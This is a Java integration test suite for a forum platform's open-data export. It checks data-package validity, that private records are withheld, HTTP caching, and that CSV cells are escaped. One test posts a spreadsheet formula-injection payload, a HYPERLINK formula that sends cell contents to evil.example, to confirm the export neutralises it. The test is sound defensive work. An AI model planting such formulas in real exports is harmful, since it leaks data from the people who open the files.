package org.kurultai.opendata;

import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;

import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import org.jspecify.annotations.Nullable;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.kurultai.Delegations;
import org.kurultai.IntegrationTest;
import org.kurultai.identity.Accounts;
import org.kurultai.identity.ApiTokens;
import org.kurultai.organs.Organs;
import org.kurultai.shared.ForumClock;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvReadFeature;
import tools.jackson.dataformat.csv.CsvSchema;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The open data, end to end: the data package is valid against the Frictionless profiles (JSON Schema, shipped in
 * {@code src/test/resources/frictionless}); every resource it lists downloads with its media type and parses, its header
 * is its Table Schema's fields and every value has its field's type, constraints and enumeration; the tables hold as many
 * records as the pages and the API show the public; a record the public may not see (a participants-only meeting, the
 * draft tabled and adopted there) is in no file, whoever downloads it; the files revalidate with 304.
 */
@IntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class OpenDataIntegrationTests {

	private static final JsonMapper JSON = JsonMapper.builder().build();
	private static final CsvMapper CSV = CsvMapper.builder().enable(CsvReadFeature.WRAP_AS_ARRAY).build();

	@LocalServerPort int port;
	@Autowired Accounts accounts;
	@Autowired ApiTokens tokens;
	@Autowired org.springframework.jdbc.core.simple.JdbcClient jdbc;
	@Autowired org.kurultai.platform.DataVersions versions;
	@Autowired ForumClock clock;
	@Autowired Organs organs;

	Delegations api;
	Delegations.Actor officer;
	final String unique = "Opendata" + Long.toString(System.nanoTime() % 1_000_000_000L, 36);
	final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
	String privateMeeting = "";
	String privateDocument = "";
	long privateDecision;

	@BeforeAll
	void aMeetingForParticipantsOnlyWithADraftAdoptedThere() {
		api = new Delegations(port, accounts, tokens);
		officer = api.secretariat("opendata");
		var meeting = api.post("/api/meetings", officer, """
				{"body": "CMFA", "title": "%s closed session", "from": "%s", "until": "%s", "place": "%s Hall", "access": "PARTICIPANTS"}"""
				.formatted(unique, clock.today(), clock.today(), unique));
		assertThat(meeting.status()).as(meeting.toString()).isEqualTo(201);
		privateMeeting = meeting.json().get("id").asString();
		var tabled = api.post("/api/documents", officer, """
				{"type": "STATEMENT", "title": "%s statement", "body": "CMFA", "access": "PARTICIPANTS", "languages": ["en"],
				 "originalLanguage": "en", "paragraphs": [{"label": "1", "status": "AGREED", "text": {"en": "We agree."}}]}""".formatted(unique));
		assertThat(tabled.status()).as(tabled.toString()).isEqualTo(201);
		privateDocument = tabled.json().get("id").asString();
		var proposed = api.post("/api/decisions", officer, """
				{"body": "CMFA", "document": "%s", "version": 0, "procedure": "MEETING", "meeting": "%s", "present": ["KAZ"]}"""
				.formatted(privateDocument, privateMeeting));
		assertThat(proposed.status()).as(proposed.toString()).isEqualTo(201);
		privateDecision = proposed.json().get("id").asLong();
		var closed = api.post("/api/decisions/" + privateDecision + "/close", officer, null);
		assertThat(closed.json().get("status").asString()).as(closed.toString()).isEqualTo("ADOPTED");
	}

	// ---------------------------------------------------------------- the package and its files

	@Test
	void theDataPackageIsAValidTabularDataPackage() {
		var descriptor = dataPackage();
		assertThat(errors("tabular-data-package.json", descriptor)).as("against the Tabular Data Package profile").isEmpty();
		assertThat(errors("data-package.json", descriptor)).as("against the Data Package profile").isEmpty();
		for (var resource : descriptor.get("resources")) {
			assertThat(errors("table-schema.json", resource.get("schema"))).as("the Table Schema of %s", resource.get("name")).isEmpty();
		}
		assertThat(descriptor.get("profile").asString()).isEqualTo("tabular-data-package");
		assertThat(descriptor.get("licenses").get(0).get("name").asString()).isEqualTo("CC-BY-4.0");
		// the sources are titles and links, never an internal file name
		assertThat(descriptor.get("sources").size()).isGreaterThan(3);
		assertThat(descriptor.toString()).doesNotContain("seed:").doesNotContain(".txt");
		var titles = new ArrayList<String>();
		descriptor.get("sources").forEach(source -> titles.add(source.get("title").asString()));
		assertThat(titles).contains("s-cica.org");

		// the validator can fail: a resource without its schema, or with a name the specification refuses, is invalid
		var broken = (tools.jackson.databind.node.ObjectNode) descriptor.deepCopy();
		((tools.jackson.databind.node.ObjectNode) broken.get("resources").get(0)).remove("schema");
		assertThat(errors("tabular-data-package.json", broken)).isNotEmpty();
		var misnamed = (tools.jackson.databind.node.ObjectNode) descriptor.deepCopy();
		misnamed.put("name", "Not A Name");
		assertThat(errors("data-package.json", misnamed)).isNotEmpty();
	}

	@Test
	void everyResourceDownloadsWithItsTypeAndParsesAsItsSchemaSays() {
		var descriptor = dataPackage();
		var names = new LinkedHashSet<String>();
		for (var resource : descriptor.get("resources")) {
			names.add(resource.get("name").asString());
			var path = resource.get("path").asString();
			var response = api.file("/data/" + path, null);
			assertThat(response.status()).as(path).isEqualTo(200);
			assertThat(response.contentType()).as(path).startsWith(resource.get("mediatype").asString());
			var fields = fields(resource.get("schema"));
			var rows = resource.get("format").asString().equals("csv") ? csv(path, response.body(), fields) : json(path, response.body(), fields);
			for (var row : rows) {
				for (var field : resource.get("schema").get("fields")) {
					check(path, field, row.get(field.get("name").asString()));
				}
			}
		}
		assertThat(names).contains("participants", "participants-json", "participant-statuses", "bodies", "body-names", "chair-terms",
				"secretariat-heads", "meetings", "documents", "decisions", "catalogue-editions", "catalogue-areas", "catalogue-measures",
				"commitments", "events", "events-json", "fund-projects", "fund-projects-json", "fund-years", "fund-years-json");
		// the same rows in both formats
		for (var name : List.of("participants", "meetings", "decisions", "events")) {
			assertThat(table(name + ".json")).as(name).isEqualTo(table(name + ".csv"));
		}
		// Russian names, in UTF-8
		assertThat(api.file("/data/participants.csv", null).body()).contains("Казахстан");
		assertThat(api.file("/data/no-such-table.csv", null).status()).isEqualTo(404);
	}

	// ---------------------------------------------------------------- the same numbers as the pages and the API

	@Test
	void theTablesHoldWhatThePagesAndTheApiShowThePublic() {
		var today = clock.today();
		// participants holding a status today: the status history's rows containing today, as /api/participants counts them
		var holding = new LinkedHashSet<String>();
		for (var period : table("participant-statuses.csv")) {
			if (!LocalDate.parse(period.get("from")).isAfter(today) && (period.get("until") == null || LocalDate.parse(period.get("until")).isAfter(today))) {
				holding.add(period.get("participant"));
			}
		}
		assertThat(holding).containsExactlyInAnyOrderElementsOf(Delegations.fields(api.get("/api/participants", null).json(), "code"));
		var participants = codes(table("participants.csv"), "code");
		assertThat(participants).containsAll(holding);
		for (var code : List.of("KAZ", "THA", "KWT", "UN")) {
			var history = api.get("/api/participants/" + code, null).json().get("history").size();
			assertThat(table("participant-statuses.csv").stream().filter(row -> row.get("participant").equals(code))).as(code).hasSize(history);
		}
		// 18 members on 2006-06-18, 28 on 2024-01-01, as the issue says
		assertThat(membersOn(LocalDate.parse("2006-06-18"))).isEqualTo(18);
		assertThat(membersOn(LocalDate.parse("2024-01-01"))).isEqualTo(28);

		assertThat(codes(table("bodies.csv"), "code")).hasSize(organs.bodies().size())
				.containsAll(Delegations.fields(api.get("/api/bodies", null).json(), "code"));
		assertThat(table("chair-terms.csv")).hasSize(api.get("/api/chairmanship/terms", null).json().size());
		var secretariat = api.get("/api/secretariat", null).json();
		assertThat(table("secretariat-heads.csv")).hasSize(secretariat.get("heads").size() + secretariat.get("deputies").size());

		// meetings: the public list of the API and the page's count
		var meetings = codes(table("meetings.csv"), "id");
		assertThat(meetings).containsExactlyInAnyOrderElementsOf(Delegations.fields(api.get("/api/meetings", null).json(), "id"));
		var meetingsPage = Jsoup.parse(api.page("/meetings", null).body());
		assertThat(Integer.parseInt(meetingsPage.getElementById("meeting-count").text())).isEqualTo(meetings.size());
		// documents and the register of decisions: the API and the register page
		assertThat(codes(table("documents.csv"), "id"))
				.containsExactlyInAnyOrderElementsOf(Delegations.fields(api.get("/api/documents", null).json(), "id"));
		var decisions = codes(table("decisions.csv"), "id");
		var fromApi = new LinkedHashSet<String>();
		api.get("/api/decisions", null).json().forEach(decision -> fromApi.add(Long.toString(decision.get("id").asLong())));
		assertThat(decisions).containsExactlyInAnyOrderElementsOf(fromApi);
		// the register page of one body (the whole register is the API's)
		var register = Jsoup.parse(api.page("/decisions?body=CMFA", null).body()).select("#register tbody tr[data-id]");
		assertThat(register).hasSize((int) table("decisions.csv").stream().filter(row -> row.get("body").equals("CMFA")).count());
		// the Catalogue: editions with their areas and measures
		var editions = api.get("/api/catalogue/editions", null).json();
		assertThat(table("catalogue-editions.csv")).hasSize(editions.size());
		int areas = 0;
		int measures = 0;
		for (var edition : editions) {
			areas += edition.get("priorityAreas").asInt();
			measures += edition.get("measures").asInt();
		}
		assertThat(table("catalogue-areas.csv")).hasSize(areas);
		assertThat(table("catalogue-measures.csv")).hasSize(measures);
		// commitments: each State's history as /api/commitments gives it
		var commitments = table("commitments.csv");
		int histories = 0;
		for (var state : codes(commitments, "participant")) {
			histories += api.get("/api/commitments?participant=" + state, null).json().get("history").size();
		}
		assertThat(commitments).hasSize(histories);
		// the timeline
		assertThat(table("events.csv")).hasSize(api.get("/api/timeline", null).json().size());

		// the page says how many rows each table has
		var page = Jsoup.parse(api.page("/data", null).body());
		var tables = page.select("section.data-table");
		assertThat(tables).hasSize(16);
		for (var section : tables) {
			assertThat(Integer.parseInt(section.attr("data-rows"))).as(section.attr("data-name"))
					.isEqualTo(table(section.attr("data-name") + ".csv").size());
		}
	}

	private long membersOn(LocalDate day) {
		return table("participant-statuses.csv").stream().filter(row -> row.get("status").equals("MEMBER"))
				.filter(row -> !LocalDate.parse(row.get("from")).isAfter(day) && (row.get("until") == null || LocalDate.parse(row.get("until")).isAfter(day)))
				.map(row -> row.get("participant")).distinct().count();
	}

	// ---------------------------------------------------------------- only public records

	@Test
	void aTitleASpreadsheetWouldRunAsAFormulaIsWrittenAsText() {
		// its own marker: the test of private records looks for this class's in every file
		var marker = "Formula" + Long.toString(System.nanoTime() % 1_000_000_000L, 36);
		var title = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\") " + marker;
		var tabled = api.post("/api/documents", officer, """
				{"type": "STATEMENT", "title": "%s", "body": "CMFA", "access": "PUBLIC", "languages": ["en"],
				 "originalLanguage": "en", "paragraphs": [{"label": "1", "status": "AGREED", "text": {"en": "We agree."}}]}""".formatted(title));
		assertThat(tabled.status()).as(tabled.toString()).isEqualTo(201);
		var recorded = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") " + marker;
		var csv = api.file("/data/documents.csv", null).body();
		assertThat(csv).as("the CSV cell starts with an apostrophe").contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1")
				.doesNotContain(",\"=HYPERLINK(");
		assertThat(table("documents.json")).extracting(row -> row.get("title")).contains(recorded);
		assertThat(table("documents.csv")).extracting(row -> row.get("title")).contains(recorded);
	}

	@Test
	void aChairTermDecidedAtAClosedMeetingDoesNotNameIt() {
		// the latest term, for a moment said to have been decided and handed over at the closed session (written directly
		// and put back, so that no election changes the shared forum's chairmanship)
		var latest = jdbc.sql("select id, starts_on::text, decided_at, handover_at from chair_term order by starts_on desc limit 1")
				.query((rs, row) -> new String[] { rs.getString(1), rs.getString(2), rs.getString(3), rs.getString(4) }).single();
		jdbc.sql("update chair_term set decided_at = ?, handover_at = ? where id = ?").params(privateMeeting, privateMeeting,
				Long.parseLong(latest[0])).update();
		versions.refresh();
		try {
			for (var file : List.of("chair-terms.csv", "chair-terms.json")) {
				var term = table(file).stream().filter(row -> latest[1].equals(row.get("from"))).findFirst();
				assertThat(term).as("%s holds the term", file).isPresent();
				assertThat(term.get().get("decided_at")).as(file).isNull();
				assertThat(term.get().get("handover_at")).as(file).isNull();
				assertThat(api.file("/data/" + file, null).body()).as(file).doesNotContain(privateMeeting);
			}
		}
		finally {
			jdbc.sql("update chair_term set decided_at = ?, handover_at = ? where id = ?").params(latest[2], latest[3],
					Long.parseLong(latest[0])).update();
			versions.refresh();
		}
	}

	@Test
	void aRecordThePublicMayNotSeeIsInNoFileWhoeverAsks() {
		// it exists: the Secretariat sees it on its own paths
		assertThat(api.get("/api/meetings/" + privateMeeting, officer).status()).isEqualTo(200);
		assertThat(api.get("/api/documents/" + privateDocument, officer).status()).isEqualTo(200);
		assertThat(api.get("/api/decisions/" + privateDecision, officer).status()).isEqualTo(200);
		var descriptor = dataPackage();
		for (var viewer : java.util.Arrays.asList(null, officer)) {
			for (var resource : descriptor.get("resources")) {
				var path = "/data/" + resource.get("path").asString();
				var body = api.file(path, viewer).body();
				assertThat(body).as(path).doesNotContain(unique).doesNotContain(privateMeeting).doesNotContain(privateDocument);
			}
			var decisions = api.file("/data/decisions.json", viewer).json();
			decisions.forEach(decision -> assertThat(decision.get("id").asLong()).isNotEqualTo(privateDecision));
			assertThat(api.page("/data", viewer).body()).doesNotContain(unique);
		}
	}

	// ---------------------------------------------------------------- validators

	@Test
	void aFileRevalidatesWith304UntilItsDataChanges() throws Exception {
		// no date while the last change's second is not over (DataVersions.Stamp#httpLastModified): the tag alone validates
		org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30))
				.until(() -> raw("/data/meetings.csv", Map.of()).headers().firstValue("Last-Modified").isPresent());
		var first = raw("/data/meetings.csv", Map.of());
		assertThat(first.statusCode()).isEqualTo(200);
		var etag = first.headers().firstValue("ETag").orElseThrow();
		var lastModified = first.headers().firstValue("Last-Modified").orElseThrow();
		assertThat(first.headers().firstValue("Cache-Control").orElseThrow()).contains("public").contains("must-revalidate");
		var participants = raw("/data/participants.csv", Map.of()).headers().firstValue("ETag").orElseThrow();

		var again = raw("/data/meetings.csv", Map.of("If-None-Match", etag));
		assertThat(again.statusCode()).isEqualTo(304);
		assertThat(again.body()).isEmpty();
		assertThat(raw("/data/meetings.csv", Map.of("If-Modified-Since", lastModified)).statusCode()).isEqualTo(304);
		assertThat(raw("/data/datapackage.json", Map.of("If-None-Match", etag)).statusCode()).as("another file's tag").isEqualTo(200);

		// a meeting the public may not see: the meetings' files are made again, but their bytes, tag and date stay
		var hidden = api.post("/api/meetings", officer, """
				{"body": "SOC", "title": "%s second session", "from": "2035-03-01", "place": "Astana", "access": "PARTICIPANTS"}""".formatted(unique));
		assertThat(hidden.status()).as(hidden.toString()).isEqualTo(201);
		var unchanged = raw("/data/meetings.csv", Map.of("If-None-Match", etag));
		assertThat(unchanged.statusCode()).as("a change the file does not show").isEqualTo(304);
		assertThat(unchanged.headers().firstValue("Last-Modified")).hasValue(lastModified);
		// a meeting the public sees: the meetings' files change, the participants' do not
		var meeting = api.post("/api/meetings", officer, """
				{"body": "SOC", "title": "Open data public session %s", "from": "2035-04-01", "place": "Astana", "access": "PUBLIC"}"""
				.formatted(java.util.UUID.randomUUID()));
		assertThat(meeting.status()).as(meeting.toString()).isEqualTo(201);
		var changed = raw("/data/meetings.csv", Map.of("If-None-Match", etag));
		assertThat(changed.statusCode()).isEqualTo(200);
		assertThat(changed.headers().firstValue("ETag").orElseThrow()).isNotEqualTo(etag);
		assertThat(raw("/data/participants.csv", Map.of("If-None-Match", participants)).statusCode()).isEqualTo(304);
	}

	// ---------------------------------------------------------------- helpers

	private JsonNode dataPackage() {
		var response = api.file("/data/datapackage.json", null);
		assertThat(response.status()).isEqualTo(200);
		assertThat(response.contentType()).startsWith("application/json");
		return response.json();
	}

	private static List<String> errors(String profile, JsonNode instance) {
		try (InputStream schema = OpenDataIntegrationTests.class.getResourceAsStream("/frictionless/" + profile)) {
			assertThat(schema).as(profile).isNotNull();
			Schema compiled = SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_4).getSchema(schema);
			return compiled.validate(instance).stream().map(error -> error.getInstanceLocation() + ": " + error.getMessage()).toList();
		}
		catch (IOException e) {
			throw new java.io.UncheckedIOException(e);
		}
	}

	private static List<String> fields(JsonNode schema) {
		var names = new ArrayList<String>();
		schema.get("fields").forEach(field -> names.add(field.get("name").asString()));
		return names;
	}

	/** An RFC 4180 file: its header is the schema's fields; each row as text by field (an empty cell: null). */
	private static List<Map<String, @Nullable String>> csv(String path, String body, List<String> fields) {
		assertThat(body).as(path).startsWith(String.join(",", fields) + "\r\n");
		try (var lines = CSV.readerFor(String[].class).with(CsvSchema.emptySchema()).<String[]>readValues(body)) {
			var all = lines.readAll();
			assertThat(List.of(all.get(0))).as("%s: the header", path).isEqualTo(fields);
			var rows = new ArrayList<Map<String, @Nullable String>>();
			for (var line : all.subList(1, all.size())) {
				assertThat(line).as("%s: a row has every field", path).hasSize(fields.size());
				var row = new LinkedHashMap<String, @Nullable String>();
				for (int i = 0; i < fields.size(); i++) {
					// a text that would run as a formula comes after an apostrophe (OpenData.formulaLike)
					var cell = line[i].length() > 1 && line[i].charAt(0) == '\'' && OpenData.formulaLike(line[i].substring(1)) ? line[i].substring(1) : line[i];
					row.put(fields.get(i), cell.isEmpty() ? null : cell);
				}
				rows.add(row);
			}
			return rows;
		}
	}

	/** A JSON file: an array of objects with the schema's fields, in order, typed; each row as text by field. */
	private static List<Map<String, @Nullable String>> json(String path, String body, List<String> fields) {
		var array = JSON.readTree(body);
		assertThat(array.isArray()).as(path).isTrue();
		var rows = new ArrayList<Map<String, @Nullable String>>();
		for (var object : array) {
			assertThat(List.copyOf(object.propertyNames())).as("%s: the fields", path).isEqualTo(fields);
			var row = new LinkedHashMap<String, @Nullable String>();
			for (var field : fields) {
				var value = object.get(field);
				// a number by its digits (an amount of billions is no 5.0E9)
				row.put(field, value.isNull() ? null : value.isString() ? value.asString()
						: value.isNumber() ? value.decimalValue().toPlainString() : value.toString());
			}
			rows.add(row);
		}
		return rows;
	}

	/** A value as its field says: type, required, enumeration; JSON's typed values are checked by their text. */
	private static void check(String path, JsonNode field, @Nullable String value) {
		var name = path + " " + field.get("name").asString();
		var constraints = field.get("constraints");
		if (value == null) {
			assertThat(constraints != null && constraints.has("required") && constraints.get("required").asBoolean()).as("%s is required", name)
					.isFalse();
			return;
		}
		switch (field.get("type").asString()) {
			case "integer" -> assertThat(value).as(name).matches("-?\\d+");
			case "number" -> assertThat(value).as(name).matches("-?\\d+(\\.\\d+)?");
			case "boolean" -> assertThat(value).as(name).isIn("true", "false");
			case "date" -> assertThat(LocalDate.parse(value)).as(name).isNotNull();
			case "datetime" -> {
				assertThat(value).as(name).matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ");
				assertThat(Instant.parse(value)).as(name).isNotNull();
			}
			case "string" -> assertThat(value).as(name).isNotBlank();
			default -> throw new AssertionError(name + ": unexpected type " + field.get("type"));
		}
		if (constraints != null && constraints.has("enum")) {
			var allowed = new HashSet<String>();
			constraints.get("enum").forEach(v -> allowed.add(v.asString()));
			assertThat(value).as(name).isIn(allowed);
		}
	}

	private List<Map<String, @Nullable String>> table(String file) {
		var response = api.file("/data/" + file, null);
		assertThat(response.status()).as(file).isEqualTo(200);
		if (schemas.isEmpty()) {
			dataPackage().get("resources").forEach(resource -> schemas.put(resource.get("path").asString(), fields(resource.get("schema"))));
		}
		var fields = schemas.get(file);
		assertThat(fields).as("%s is in the data package", file).isNotNull();
		return file.endsWith(".csv") ? csv(file, response.body(), fields) : json(file, response.body(), fields);
	}

	/** Each file's fields, as the data package says (read once). */
	private final Map<String, List<String>> schemas = new java.util.concurrent.ConcurrentHashMap<>();

	private static Set<String> codes(List<Map<String, @Nullable String>> rows, String field) {
		var codes = new LinkedHashSet<String>();
		rows.forEach(row -> codes.add(row.get(field)));
		return codes;
	}

	private HttpResponse<String> raw(String path, Map<String, String> headers) throws Exception {
		var request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).timeout(Duration.ofSeconds(30)).header("Accept", "*/*");
		headers.forEach(request::header);
		return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
	}
}
